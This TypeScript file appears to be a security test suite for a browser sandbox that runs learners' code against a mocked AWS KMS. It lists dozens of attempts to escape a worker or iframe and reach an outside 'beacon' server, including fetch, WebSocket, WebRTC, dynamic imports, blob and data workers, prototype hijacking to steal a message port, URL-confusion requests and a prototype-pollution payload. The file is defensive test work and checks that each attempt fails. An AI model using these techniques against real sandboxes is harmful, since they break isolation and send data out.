/**
 * Ways out of a sandbox, as programs try them. Each is a function that resolves when it has got out, and throws when it
 * has not; `beacon` is the address of a server that must never hear of it, as `host:port`.
 */

/** What the learner's program can try: it runs in a worker. */
export const programEscapes = (beacon: string): Record<string, string> => ({
  fetch: `await fetch('http://${beacon}/fetch')`,
  'fetch of an address like AWS’s': `await fetch('https://kms.us-east-1.amazonaws.com@${beacon}/')`,
  'fetch of a path like AWS’s': `await fetch('https://${beacon}/kms.us-east-1.amazonaws.com')`,
  'fetch of the site': `await fetch('/')`,
  'the own fetch of a prototype': `await WorkerGlobalScope.prototype.fetch.call(self, 'http://${beacon}/prototype')`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', 'http://${beacon}/xhr', false); request.send()`,
  WebSocket: `await new Promise((resolve, reject) => { const socket = new WebSocket('ws://${beacon}/'); socket.onopen = resolve; socket.onerror = reject })`,
  WebSocketStream: `await new WebSocketStream('ws://${beacon}/').opened`,
  EventSource: `await new Promise((resolve, reject) => { const source = new EventSource('http://${beacon}/events'); source.onopen = resolve; source.onerror = reject })`,
  WebTransport: `await new WebTransport('https://${beacon}/').ready`,
  WebRTC: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${beacon}' }] }).createDataChannel('out')`,
  sendBeacon: `if (!navigator.sendBeacon('http://${beacon}/beacon')) throw new Error('refused')`,
  'import from the net': `await import('http://${beacon}/module.js')`,
  'import of data': `await import('data:text/javascript,export default 1')`,
  importScripts: `importScripts('http://${beacon}/script.js')`,
  eval: `eval('1')`,
  Function: `new Function('return 1')()`,
  'a timer’s string': `await new Promise((resolve, reject) => { globalThis.timed = resolve; setTimeout('timed()', 0); setTimeout(() => reject(new Error('nothing came')), 50) })`,
  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("http://${beacon}/worker")'])))`,
  'a worker of data': `new Worker('data:text/javascript,fetch("http://${beacon}/worker")')`,
  SharedWorker: `new SharedWorker('data:text/javascript,1')`,
  'service worker': `await navigator.serviceWorker.register('/worker.js')`,
  indexedDB: `await new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = resolve; asked.onerror = reject })`,
  caches: `await caches.open('x')`,
  localStorage: `localStorage.setItem('x', '1')`,
  cookies: `document.cookie = 'x=1'`,
  'cookie store': `await cookieStore.set('x', '1')`,
  'file system': `await navigator.storage.getDirectory()`,
  'old file system': `webkitRequestFileSystem(0, 1, () => {})`,
  BroadcastChannel: `new BroadcastChannel('glass-kms').postMessage('x')`,
  locks: `await navigator.locks.request('x', () => {})`,
  window: `window.alert(1)`,
  parent: `parent.postMessage('x', '*')`,
  top: `top.location.href`,
  opener: `opener.location.href`,
  navigation: `location.href = 'http://${beacon}/navigation'; throw new Error('nothing went')`,
  image: `new Image().src = 'http://${beacon}/image'`,
  'font of a style sheet': `await new FontFace('x', 'url(http://${beacon}/font)').load()`,
  'a message to the frame': `postMessage({ worker: 'fetch("http://${beacon}/forged")' })`,
  'a message as from the frame': `dispatchEvent(new MessageEvent('message', { data: { page: null, crypto: null } })); throw new Error('nobody listens')`,
  'the port, by a method of its prototype': `
    let port: unknown; const own = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function () { port = this };
    try { await kms.listKeys({}) } finally { MessagePort.prototype.postMessage = own }
    if (!port) throw new Error('nothing came by')`,
  'the port, by the event that brings a reply': `
    let event: any; const own = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!;
    Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { event = this; return own.get!.call(this) } });
    try { await kms.listKeys({}) } finally { Object.defineProperty(MessageEvent.prototype, 'data', own) }
    if (!event?.target) throw new Error('nothing came by')`,
  'pollution by a header': `
    await fetch('https://kms.us-east-1.amazonaws.com/', { method: 'POST', headers: { constructor: 'x', 'x-amz-target': '__proto__.polluted' }, body: '{"__proto__":{"polluted":1}}' });
    throw new Error('looked at in the page')`,
});

/** A program that tries them one after the other, and says of each what came of it. */
export function escapeProgram(beacon: string): string {
  const tries = Object.entries(programEscapes(beacon)).map(
    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
  );
  return `
import { KMS } from '@aws-sdk/client-kms';
const kms = new KMS({});
async function attempt(name: string, escape: () => Promise<void>) {
  try { await escape(); console.log('OUT', name); } catch (error) { console.log('in', name); }
}
${tries.join('\n')}
console.log('Tried', ${tries.length}, 'of', await kms.listKeys({}).then(({ $metadata }) => $metadata.httpStatusCode));
`;
}

/**
 * What a program could try if it ran in the frame itself, which has a document. Runs there; resolves with the names of
 * the ways that led out. Of those that tell nothing, the server knows.
 */
export async function frameEscapes(beacon: string): Promise<string[]> {
  const out: string[] = [];
  const attempt = async (name: string, escape: () => unknown): Promise<void> => {
    try {
      const got = await escape();
      if (got !== 'silent') out.push(name);
    } catch {
      // As it must be.
    }
  };
  const url = (path: string): string => `http://${beacon}/frame-${path}`;
  const silently = (element: HTMLElement): 'silent' => {
    document.documentElement.append(element);
    return 'silent';
  };
  const make = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    values: Partial<HTMLElementTagNameMap[Name]>,
  ): HTMLElementTagNameMap[Name] => Object.assign(document.createElement(name), values);

  await attempt('fetch', () => fetch(url('fetch'), { mode: 'no-cors' }));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', url('xhr'), false);
    request.send();
  });
  await attempt('WebSocket', async () => {
    const socket = new WebSocket(`ws://${beacon}/`);
    await new Promise((resolve, reject) => Object.assign(socket, { onopen: resolve, onerror: reject }));
  });
  await attempt('EventSource', async () => {
    const source = new EventSource(url('events'));
    await new Promise((resolve, reject) => Object.assign(source, { onopen: resolve, onerror: reject }));
  });
  await attempt('sendBeacon', () => navigator.sendBeacon(url('beacon')) && 'silent');
  await attempt('WebRTC', () => new RTCPeerConnection());
  await attempt('WebTransport', () => new WebTransport('https://example.com/'));
  await attempt('localStorage', () => localStorage.setItem('x', '1'));
  await attempt('sessionStorage', () => sessionStorage.setItem('x', '1'));
  await attempt('cookie', () => (document.cookie = 'x=1'));
  await attempt('indexedDB', () => indexedDB.open('x'));
  await attempt('caches', () => caches.open('x'));
  await attempt('service worker', () => navigator.serviceWorker.register('/x.js'));
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top!.location.href);
  await attempt('top navigation', () => void (top!.location.href = url('top')));
  await attempt('window.open', () => {
    if (!open(url('open'))) throw new Error('refused');
  });
  await attempt('worker of data', async () => {
    const worker = new Worker('data:text/javascript,postMessage(1)');
    await new Promise((resolve, reject) => Object.assign(worker, { onmessage: resolve, onerror: reject }));
  });
  await attempt('shared worker', async () => {
    const worker = new SharedWorker('data:text/javascript,1');
    await new Promise((_resolve, reject) => (worker.onerror = reject));
  });
  await attempt('image', () => silently(make('img', { src: url('image') })));
  await attempt('script', () => silently(make('script', { src: url('script') })));
  await attempt('inline script', () => {
    silently(make('script', { textContent: 'globalThis.ranInline = true' }));
    if (!('ranInline' in globalThis)) throw new Error('refused');
  });
  await attempt('style sheet', () => silently(make('link', { rel: 'stylesheet', href: url('sheet') })));
  await attempt('prefetch', () => silently(make('link', { rel: 'prefetch', href: url('prefetch') })));
  await attempt('style', () =>
    silently(make('style', { textContent: `body { background: url(${url('css')}) }` })),
  );
  await attempt('nested frame', () => silently(make('iframe', { src: url('frame') })));
  await attempt('object', () => silently(make('object', { data: url('object') })));
  await attempt('video', () => silently(make('video', { src: url('video') })));
  await attempt('ping', () => {
    const link = make('a', { href: '#', ping: url('ping') });
    silently(link);
    link.click();
    return 'silent';
  });
  await attempt('form', () => {
    const form = make('form', { action: url('form'), method: 'post' });
    silently(form);
    form.submit();
    return 'silent';
  });
  return out;
}
